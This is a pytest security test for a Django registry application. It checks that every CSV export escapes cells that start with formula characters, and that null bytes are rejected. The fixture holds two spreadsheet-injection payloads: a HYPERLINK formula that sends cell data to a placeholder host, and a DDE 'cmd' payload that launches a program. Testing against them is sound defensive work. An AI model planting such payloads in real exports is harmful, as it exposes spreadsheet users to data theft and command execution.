"""T12 CSV formula injection (security.md DP-5, §5 T12).

Persons whose names (and every free-text value: task titles, notes, report text...) start with
`=`, `+`, `-`, `@` or TAB are built through the services (the services strip leading TABs, and
the register's validators refuse NUL, checked below; `neutralise` is checked for both directly);
then every CSV export of the project (every URL pattern ending in `.csv`, with the purpose the
compliance exports ask for) is downloaded by the users who may download it. Every cell that
starts with one of those characters (or CR) must come out prefixed with `'`: 0 unescaped cells.
Non-vacuous: each prefix that the services stored must appear escaped in the exports.
"""

from __future__ import annotations

import csv
import io
import itertools
from collections.abc import Iterator
from typing import Any

import pytest
from django.db import transaction
from django.urls import reverse

from ncos.access.roles import Role
from ncos.access.testing import endpoints
from ncos.common.csv import neutralise
from tests.security.conftest import signed_in
from tests.security.world import build_person, user

DANGEROUS = ("=", "+", "-", "@", "\t", "\r", "\0")
PREFIXES = ["=", "+", "-", "@", "\t"]
PURPOSE = "purpose=security+review"


@pytest.fixture(scope="module")
def dangerous(django_db_setup: Any, django_db_blocker: Any) -> Iterator[list[str]]:
    with django_db_blocker.unblock(), transaction.atomic():
        formulas = itertools.cycle(
            ['HYPERLINK("http://x.example/?"&A1)', "SUM(1+1)*cmd|' /C calc'!A0"]
        )
        prefixes = list(PREFIXES)
        for i, prefix in enumerate(prefixes):
            payload = itertools.cycle([f"{prefix}{next(formulas)}"])
            for code, other in (("ACT", "NSW"), ("NSW", "ACT")):
                build_person(
                    code,
                    protected=False,
                    other=other,
                    family=f"{prefix}Formula{i}",
                    given=f"{prefix}Given{i}",
                    inject=lambda p=payload: next(p),
                )
        try:
            yield prefixes
        finally:
            transaction.set_rollback(True)


def _exports() -> list[str]:
    urls = []
    for endpoint in endpoints():
        if endpoint.name and not endpoint.kwargs and endpoint.route.endswith(".csv"):
            url = reverse(endpoint.name)
            urls.append(f"{url}?{PURPOSE}" if endpoint.name.startswith("compliance:") else url)
    return urls


def test_neutralise_prefixes_every_dangerous_first_character() -> None:
    for prefix in DANGEROUS:
        assert neutralise(f"{prefix}1+1") == f"'{prefix}1+1"
    assert neutralise("Smith=1") == "Smith=1"


@pytest.mark.django_db
def test_a_name_with_nul_is_refused_by_the_api_and_the_page() -> None:
    """NUL never reaches the database from a user (the service itself lets it through to a
    database error on PostgreSQL: SECURITY_FINDINGS.md F-DATA-2)."""
    import json

    client = signed_in(user("ACT", Role.REGISTRAR, cleared=True))
    body = {"family_name": "\u0000=SUM(1)", "given_names": "A", "date_of_birth": "1980-01-01"}
    response = client.post("/api/v1/persons", json.dumps(body), content_type="application/json")
    assert response.status_code == 400, response.status_code
    page = client.post(
        reverse("registry:person_create"),
        {"family_name": "\x00=SUM(1)", "given_names": "A", "date_of_birth": "1980-01-01"},
    )
    assert page.status_code < 500, page.status_code
    assert b"Null characters are not allowed" in page.content


@pytest.mark.django_db
def test_every_csv_export_escapes_formula_cells(dangerous: list[str]) -> None:
    urls = _exports()
    assert len(urls) >= 7, urls
    readers = [user(c, Role.REGISTRAR, cleared=True) for c in ("ACT", "NSW")]
    readers += [user(c, Role.AUDITOR, cleared=True) for c in ("ACT", "NSW")]
    unescaped: list[str] = []
    escaped: set[str] = set()
    produced: set[str] = set()
    cells = 0
    for reader in readers:
        client = signed_in(reader)
        for url in urls:
            extra = "&" if "?" in url else "?"
            for query in ("", f"{extra}scope=all", f"{extra}state=read"):
                response = client.get(url + query)
                if not response.get("Content-Type", "").startswith("text/csv"):
                    continue
                produced.add(url.split("?")[0])
                body = response.content.decode("utf-8")
                for row in csv.reader(io.StringIO(body, newline="")):
                    for cell in row:
                        cells += 1
                        if cell.startswith(DANGEROUS):
                            unescaped.append(f"{reader.username} {url}{query}: {cell[:40]!r}")
                        elif cell[:1] == "'" and cell[1:2] in DANGEROUS:
                            escaped.add(cell[1])
    assert len(produced) == len(urls), f"exports not produced: {set(urls) - produced}"
    assert not unescaped, f"{len(unescaped)} unescaped cells:\n" + "\n".join(unescaped[:40])
    stored = set(dangerous) - {"\t"}  # leading whitespace is stripped on the way in
    assert stored <= escaped, f"never seen escaped: {stored - escaped} ({cells} cells)"
